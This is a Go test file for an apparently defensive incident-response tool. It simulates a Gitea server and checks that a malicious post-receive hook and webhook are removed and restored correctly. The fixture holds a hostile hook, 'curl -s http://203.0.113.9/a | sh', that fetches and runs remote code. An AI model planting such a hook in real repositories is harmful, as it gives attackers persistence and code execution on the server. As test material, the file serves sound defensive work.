package source

import (
	"maps"
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/minewarden/minewarden"
)

func giteaServer(t *testing.T) (*product, string) {
	const evil = "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n"
	p := &product{token: "gitea-secret", state: map[string]any{
		"git/pre-receive": "", "git/update": "#!/bin/sh\n/usr/local/bin/check\n", "git/post-receive": evil,
		"1": map[string]any{"id": 1., "active": true, "type": "gitea", "config": map[string]any{"url": "http://203.0.113.9/hook", "content_type": "json"}, "events": []any{"push"}},
		"2": map[string]any{"id": 2., "active": true, "type": "gitea", "config": map[string]any{"url": "https://ci.example.org/hook", "content_type": "json"}, "events": []any{"push"}},
	}}
	git := func(name string) map[string]any {
		h := map[string]any{"name": name, "is_active": false}
		if text := p.state["git/"+name].(string); text != "" {
			h["is_active"], h["content"] = true, text
		}
		return h
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		path, ok := strings.CutPrefix(r.URL.Path, "/api/v1/repos/o/r/hooks")
		path = strings.TrimPrefix(path, "/")
		switch {
		case !ok:
			http.Error(w, `{"message":"not found"}`, http.StatusNotFound)
		case path == "":
			answer(w, []any{p.state["1"], p.state["2"]})
		case path == "git":
			answer(w, []any{git("pre-receive"), git("update"), git("post-receive")})
		case p.state[path] == nil:
			http.Error(w, `{"message":"not found"}`, http.StatusNotFound)
		case strings.HasPrefix(path, "git/"):
			if r.Method == http.MethodPatch {
				p.state[path] = body["content"]
			}
			answer(w, git(strings.TrimPrefix(path, "git/")))
		default:
			if r.Method == http.MethodPatch {
				maps.Copy(p.state[path].(map[string]any), body)
			}
			answer(w, p.state[path])
		}
	})
	return p, url
}

func TestGitea(t *testing.T) {
	p, url := giteaServer(t)
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Gitea = Service{URL: url, TokenFile: token(t, "gitea-secret")} })
	inc := lineage("gitea > git > sh > curl", minewarden.Member{Name: "curl"})
	inc.Findings = append(inc.Findings,
		minewarden.IncidentFinding{Rule: "persistence/code", Severity: minewarden.High, Subject: minewarden.Subject{Type: minewarden.SubjectFile, ID: "/data/git/repositories/o/r.git/hooks/post-receive.d/x"}},
		minewarden.IncidentFinding{Rule: "stratum/login", Severity: minewarden.High, Subject: minewarden.Subject{Type: minewarden.SubjectFlow, Server: "203.0.113.9:80"}})
	before := p.copy(t)
	todo, refused := plan(t, r, inc)
	var names []string
	for _, a := range todo {
		names = append(names, a.Target.ID)
	}
	if diff := cmp.Diff([]string{"gitea hook o/r post-receive", "gitea web hook o/r 1"}, names); diff != "" || len(refused) > 0 {
		t.Fatalf("refused %q, plan:\n%s", refused, diff)
	}
	for _, a := range todo {
		receipt, err := r.Do(t.Context(), a)
		if err != nil || !receipt.OK {
			t.Fatal(err, receipt)
		}
		if cmp.Equal(before, p.copy(t)) {
			t.Errorf("%s did nothing", a.Target.ID)
		}
		for range 2 {
			if err := r.Undo(t.Context(), receipt); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, p.copy(t)); diff != "" {
				t.Errorf("%s undone:\n%s", a.Target.ID, diff)
			}
		}
	}
	todo, _ = plan(t, r, inc)
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	p.mu.Lock()
	p.state["git/post-receive"] = "#!/bin/sh\necho another\n"
	p.mu.Unlock()
	if err := r.Undo(t.Context(), receipt); err == nil {
		t.Error("a hook that somebody wrote meanwhile was written over")
	}
}
